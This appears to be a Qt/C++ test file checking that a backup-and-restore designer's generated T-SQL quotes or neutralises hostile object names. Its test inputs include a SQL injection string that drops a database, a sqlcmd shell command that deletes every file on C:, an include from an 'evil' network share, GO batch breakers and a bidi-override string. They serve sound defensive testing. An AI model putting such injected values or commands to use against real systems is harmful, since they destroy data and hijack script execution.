// SPDX-FileCopyrightText: 2026 The Restore Designer contributors
// SPDX-License-Identifier: GPL-3.0-or-later

// Hostile names in generated T-SQL: whatever a database, filegroup, file, path or mark is called,
// it stays inside its statement (quoted as QUOTENAME and N'' do) and never reaches the tools that
// run the script (a GO line, a sqlcmd command or variable, a control or bidirectional character).

#include "model/domain/plantime.h"
#include "model/domain/project.h"
#include "model/tsql/tsqlwriter.h"
#include "tests/model/tsqlfixtures.h"

#include <QRegularExpression>
#include <QTest>

using namespace rd;
using rd::test::makeBackup;

namespace {

// A database whose every name is `name`: database, secondary filegroup, its file, backup paths,
// a mark; and a plan that uses each of them in every statement form.
Project hostileProject(const QString &name)
{
    Project p;
    p.database.name = name;
    p.database.filegroups = {Filegroup{QStringLiteral("PRIMARY"), FilegroupType::Rows, false,
                                       {DataFile{QStringLiteral("p1"), QStringLiteral("c:\\p1.mdf"), 0}}},
                             Filegroup{name, FilegroupType::Rows, false, {DataFile{name, name, 0}}}};
    const QDateTime t0 = PlanTime::make(2024, 1, 1, 1, 0);
    p.backups = {makeBackup(QStringLiteral("full"), BackupType::Full, t0, {name}),
                 makeBackup(QStringLiteral("fg"), BackupType::File, t0.addSecs(3600), {name, name}, {name}),
                 makeBackup(QStringLiteral("log"), BackupType::Log, t0.addSecs(7200), {name}),
                 makeBackup(QStringLiteral("tail"), BackupType::Log, t0.addSecs(9000), {name})};
    p.backups[1].files = {name};
    p.backups[3].tailLog = true;
    TimelineEvent ro;
    ro.kind = EventKind::SetReadOnly;
    ro.at = t0.addSecs(1800);
    ro.filegroup = name;
    TimelineEvent mark;
    mark.kind = EventKind::Mark;
    mark.at = t0.addSecs(5000);
    mark.name = name;
    TimelineEvent model;
    model.kind = EventKind::SetRecoveryModel;
    model.at = t0.addSecs(5400);
    p.events = {ro, mark, model};

    Plan plan;
    plan.name = name;
    PlanStep tail;
    tail.statement = StepStatement::BackupLog;
    tail.backup = QStringLiteral("tail");
    tail.norecovery = true;
    PlanStep offline;
    offline.statement = StepStatement::SetOffline;
    PlanStep first;
    first.backup = QStringLiteral("full");
    first.partial = true;
    first.recovery = RecoveryOption::Standby;
    first.standbyFile = name;
    first.move = {FileMove{name, name}};
    PlanStep file;
    file.backup = QStringLiteral("fg");
    file.filegroups = {name};
    file.files = {name};
    file.recovery = RecoveryOption::NoRecovery;
    PlanStep log;
    log.statement = StepStatement::RestoreLog;
    log.backup = QStringLiteral("log");
    log.stopAtMark = name;
    log.recovery = RecoveryOption::NoRecovery;
    PlanStep recoverOnly;
    recoverOnly.filegroups = {name};
    recoverOnly.recovery = RecoveryOption::Recovery;
    plan.steps = {tail, offline, first, file, log, recoverOnly};
    p.plans = {plan};
    return p;
}

// Every line must be one the writer makes: nothing a value contains may start a line, end a
// batch, run a sqlcmd command or name a sqlcmd variable.
void verifyScriptIsInert(const QString &script, int expectedBatches)
{
    for (QChar c : script)
        QVERIFY2(c == u'\n' || (c.unicode() >= 0x20 && c.unicode() != 0x7F && c.unicode() != 0x85
                                && c.unicode() != 0x2028 && c.unicode() != 0x2029
                                && !(c.unicode() >= 0x202A && c.unicode() <= 0x202E)
                                && !(c.unicode() >= 0x2066 && c.unicode() <= 0x2069)),
                 qPrintable(QStringLiteral("control character U+%1").arg(int(c.unicode()), 4, 16)));
    QVERIFY(!script.contains(QLatin1String("$(")));
    static const QRegularExpression goLine(QStringLiteral("^\\s*go(\\s+\\d+)?\\s*$"),
                                           QRegularExpression::CaseInsensitiveOption);
    static const QRegularExpression ours(QStringLiteral(
        "^(|--.*|GO|(RESTORE|BACKUP|ALTER|DECLARE|EXEC|BEGIN|COMMIT) .*"
        "|    (FILEGROUP|FILE|PAGE|READ_WRITE_FILEGROUPS|FROM|TO|WITH)\\b.*|        [A-Z_]+\\b.*)$"));
    const QStringList lines = script.split(u'\n');
    int batches = 0;
    for (qsizetype i = 0; i < lines.size(); ++i) {
        const QString &line = lines[i];
        QVERIFY2(!line.trimmed().startsWith(u':') && !line.trimmed().startsWith(QLatin1String("!!")), qPrintable(line));
        QVERIFY2(ours.match(line).hasMatch(), qPrintable(line));
        if (goLine.match(line).hasMatch()) {
            QCOMPARE(line, QStringLiteral("GO"));
            QVERIFY2(i > 0 && lines[i - 1].endsWith(u';'), qPrintable(lines.value(i - 1)));
            ++batches;
        }
    }
    QCOMPARE(batches, expectedBatches);
}

} // namespace

class TestTsqlScriptSafety : public QObject
{
    Q_OBJECT

private slots:
    void hostileNamesAreQuoted_data();
    void hostileNamesAreQuoted();
    void breakingNamesUseVariables();
    void breakingNamesNeverReachTheScript_data();
    void breakingNamesNeverReachTheScript();
};

void TestTsqlScriptSafety::hostileNamesAreQuoted_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("id");  // as QUOTENAME writes it
    QTest::addColumn<QString>("str"); // as N'…'
    QTest::newRow("bracket") << QStringLiteral("a]b") << QStringLiteral("[a]]b]") << QStringLiteral("N'a]b'");
    QTest::newRow("injection") << QStringLiteral("x'; DROP DATABASE y; --")
                               << QStringLiteral("[x'; DROP DATABASE y; --]")
                               << QStringLiteral("N'x''; DROP DATABASE y; --'");
    QTest::newRow("unicode") << QStringLiteral("Ümlaut_数据") << QStringLiteral("[Ümlaut_数据]")
                             << QStringLiteral("N'Ümlaut_数据'");
}

void TestTsqlScriptSafety::hostileNamesAreQuoted()
{
    QFETCH(QString, name);
    QFETCH(QString, id);
    QFETCH(QString, str);
    const Project p = hostileProject(name);
    const QString restore = TsqlWriter::restoreScript(p, p.plans.first());
    const QString backup = TsqlWriter::backupScript(p);
    for (const QString &part : {QStringLiteral("BACKUP LOG ") + id + QStringLiteral("\n    TO DISK = ") + str,
                                QStringLiteral("ALTER DATABASE ") + id + QStringLiteral(" SET OFFLINE"),
                                QStringLiteral("RESTORE DATABASE ") + id + QStringLiteral("\n"),
                                QStringLiteral("STANDBY = ") + str + u',',
                                QStringLiteral("MOVE ") + str + QStringLiteral(" TO ") + str + u',',
                                QStringLiteral("    FILEGROUP = ") + str + QStringLiteral(",\n    FILE = ") + str,
                                QStringLiteral("FROM DISK = ") + str + QStringLiteral(", DISK = ") + str + u'\n',
                                QStringLiteral("STOPATMARK = ") + str + u',',
                                QStringLiteral("RESTORE LOG ") + id})
        QVERIFY2(restore.contains(part), qPrintable(part + QStringLiteral("\nnot in\n") + restore));
    for (const QString &part : {QStringLiteral("MODIFY FILEGROUP ") + id + QStringLiteral(" READ_ONLY;"),
                                QStringLiteral("BEGIN TRANSACTION ") + id + QStringLiteral(" WITH MARK;\nCOMMIT TRANSACTION ")
                                    + id + u';',
                                QStringLiteral("ALTER DATABASE ") + id + QStringLiteral(" SET RECOVERY FULL;")})
        QVERIFY2(backup.contains(part), qPrintable(part + QStringLiteral("\nnot in\n") + backup));
    QVERIFY(!restore.contains(QLatin1String("DECLARE")));
    QVERIFY(!backup.contains(QLatin1String("DECLARE")));
    verifyScriptIsInert(restore, 6);
    verifyScriptIsInert(backup, 8); // 6 events and backups, the tail, and the start-of-timeline recovery model
}

void TestTsqlScriptSafety::breakingNamesUseVariables()
{
    Project p = hostileProject(QStringLiteral("fg\r\n:r evil"));
    p.database.name = QStringLiteral("db\nGO\n");
    for (Backup &b : p.backups)
        b.media.fill(QStringLiteral("c:\\$(x).bak"));
    const QString restore = TsqlWriter::restoreScript(p, p.plans.first());
    QVERIFY2(restore.contains(QStringLiteral(
                 "DECLARE @rd_sql nvarchar(max) = N'ALTER DATABASE [db' + NCHAR(10) + N'GO' + NCHAR(10) + "
                 "N'] SET OFFLINE WITH ROLLBACK IMMEDIATE;';\nEXEC (@rd_sql);\nGO\n")),
             qPrintable(restore));
    QVERIFY(restore.contains(QStringLiteral(
        "DECLARE @rd_name1 nvarchar(4000) = N'db' + NCHAR(10) + N'GO' + NCHAR(10);\n"
        "DECLARE @rd_name2 nvarchar(4000) = N'fg' + NCHAR(13) + NCHAR(10) + N':r evil';\n"
        "DECLARE @rd_name3 nvarchar(4000) = N'c:\\$' + N'(x).bak';\n"
        "RESTORE DATABASE @rd_name1\n"
        "    FILEGROUP = @rd_name2,\n"
        "    FILE = @rd_name2\n"
        "    FROM DISK = @rd_name3, DISK = @rd_name3\n"
        "    WITH\n        FILE = 1,\n        NORECOVERY,\n        NOUNLOAD,\n        STATS = 10;\nGO\n")));
    // Variables are numbered in order of use within each batch.
    QVERIFY(restore.contains(QStringLiteral(
        "DECLARE @rd_name1 nvarchar(4000) = N'db' + NCHAR(10) + N'GO' + NCHAR(10);\n"
        "DECLARE @rd_name2 nvarchar(4000) = N'c:\\$' + N'(x).bak';\n"
        "DECLARE @rd_name3 nvarchar(4000) = N'fg' + NCHAR(13) + NCHAR(10) + N':r evil';\n"
        "RESTORE DATABASE @rd_name1\n"
        "    FROM DISK = @rd_name2\n"
        "    WITH\n        FILE = 1,\n        PARTIAL,\n        STANDBY = @rd_name3,\n"
        "        MOVE @rd_name3 TO @rd_name3,\n        NOUNLOAD,\n")));
    // STOPATMARK takes a literal only, so the statement becomes dynamic SQL.
    QVERIFY2(restore.contains(QStringLiteral(
        "DECLARE @rd_sql nvarchar(max) = N'RESTORE LOG [db' + NCHAR(10) + N'GO' + NCHAR(10) + N']' + NCHAR(10) + "
        "N'    FROM DISK = N''c:\\$' + N'(x).bak''' + NCHAR(10) + N'    WITH' + NCHAR(10) + N'        FILE = 1,' + "
        "NCHAR(10) + N'        NORECOVERY,' + NCHAR(10) + N'        STOPATMARK = N''fg' + NCHAR(13) + NCHAR(10) + "
        "N':r evil'',' + NCHAR(10) + N'        NOUNLOAD,' + NCHAR(10) + N'        STATS = 10;';\nEXEC (@rd_sql);\nGO\n")),
             qPrintable(restore));
    QVERIFY(restore.startsWith(QStringLiteral("-- Restore plan \"fg\\r\\n:r evil\" for database db\\nGO\\n\n")));
    const QString backup = TsqlWriter::backupScript(p);
    QVERIFY2(backup.contains(QStringLiteral(
                 "DECLARE @rd_name1 nvarchar(4000) = N'fg' + NCHAR(13) + NCHAR(10) + N':r evil';\n"
                 "BEGIN TRANSACTION @rd_name1 WITH MARK;\nCOMMIT TRANSACTION @rd_name1;\nGO\n")),
             qPrintable(backup));
}

void TestTsqlScriptSafety::breakingNamesNeverReachTheScript_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("GO line") << QStringLiteral("a\nGO\nb");
    QTest::newRow("GO alone") << QStringLiteral("\ngo\n");
    QTest::newRow("GO with count") << QStringLiteral("x\r GO 2 \r");
    QTest::newRow("sqlcmd shell") << QStringLiteral("x\r\n:!! del c:\\*.*\r\n");
    QTest::newRow("sqlcmd include") << QStringLiteral("x\n:r \\\\evil\\share\\s.sql");
    QTest::newRow("sqlcmd exit") << QStringLiteral("x\nEXIT\n");
    QTest::newRow("sqlcmd variable") << QStringLiteral("$(SQLCMDUSER)");
    QTest::newRow("unicode separators") << QStringLiteral("a\u2028GO\u2029:r y\u0085GO");
    QTest::newRow("vertical tab, form feed") << QStringLiteral("a\vGO\f:r y");
    QTest::newRow("block comment") << QStringLiteral("/*\nGO\n*/");
    // Trojan Source: shown right to left, "x' WITH RECOVERY --" would read differently than it runs.
    QTest::newRow("bidi override") << QStringLiteral("fg\u202E-- \u2066x\u2069");
    QTest::newRow("everything") << QStringLiteral("a]b'\n$(x)\nGO\n:!! x\n数据");
}

void TestTsqlScriptSafety::breakingNamesNeverReachTheScript()
{
    QFETCH(QString, name);
    const Project p = hostileProject(name);
    verifyScriptIsInert(TsqlWriter::restoreScript(p, p.plans.first()), 6);
    verifyScriptIsInert(TsqlWriter::backupScript(p), 8);
}

QTEST_APPLESS_MAIN(TestTsqlScriptSafety)
#include "tst_tsqlscriptsafety.moc"
